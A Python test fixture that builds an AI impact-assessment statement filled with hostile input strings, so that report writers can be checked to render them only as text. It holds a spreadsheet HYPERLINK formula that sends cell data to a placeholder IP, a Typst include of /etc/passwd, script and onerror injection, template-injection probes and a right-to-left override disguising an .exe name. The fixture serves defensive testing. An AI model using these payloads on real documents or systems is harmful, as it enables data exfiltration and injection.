"""Texts that a hostile or unlucky person may type anywhere; every writer must show them as text and nothing else."""

from __future__ import annotations

from dataclasses import replace

from fairlead.reports.content.applicability import Applicability
from tests.engines.reports.make import LEAD, make_statement

FORMULA = '=HYPERLINK("http://203.0.113.1/"&A1,"open")'
TYPST = '#eval("1+1") *bold* _it_ $x^2$ @ref <label> `raw` // gone /* gone */ #include "/etc/passwd" \\ ~ [x] - '
MARKUP = "</td></style></script><script>document.title='owned'</script><img src=x onerror=alert(1)>"
TEMPLATE = "{{ 7*7 }} {% raw %} ${7*7} {moment} {page} %(x)s"
CONTROL = "a\x00b\x01c\x07d\x1b[31me\x7ff\x85g\u2028h\rI\r\nJ"
OVERRIDE = "evidence-\u202efdp.exe"
ARABIC = "تقييم أثر نظام الذكاء الاصطناعي"
HEBREW = "הערכת השפעה"
EMOJI = "ship it 🚀 👩‍🔬 🇪🇺 ✅"
CHINESE = "人工智能影响评估"
HALF = "half \ud83d character"
LONG_WORD = "x" * 5_000
LONG_TEXT = "The board looks at every rejected applicant again, one by one. " * 80

ALL = (
    FORMULA,
    TYPST,
    MARKUP,
    TEMPLATE,
    CONTROL,
    OVERRIDE,
    ARABIC,
    HEBREW,
    EMOJI,
    CHINESE,
    HALF,
    LONG_WORD,
    LONG_TEXT,
)


def hostile_statement() -> Applicability:
    """Return a statement in which each text field of some row holds a hostile text."""
    statement = make_statement()
    lines = list(statement.lines)
    for place, words in enumerate(ALL):
        lines[place] = replace(
            lines[place],
            applicable=True,
            title=words[:200],
            group=words[:60],
            justification=words,
            implementation=words,
            owner=replace(LEAD, name=words[:80]),
            risks=(words[:40],),
            shared_with=(words[:80], "b"),
        )
    header = replace(statement.header, organization=MARKUP, scope=TYPST, version='1"><b>', product=TEMPLATE)
    return replace(statement, lines=tuple(lines), header=header, previous_version=MARKUP, dropped=(MARKUP,))
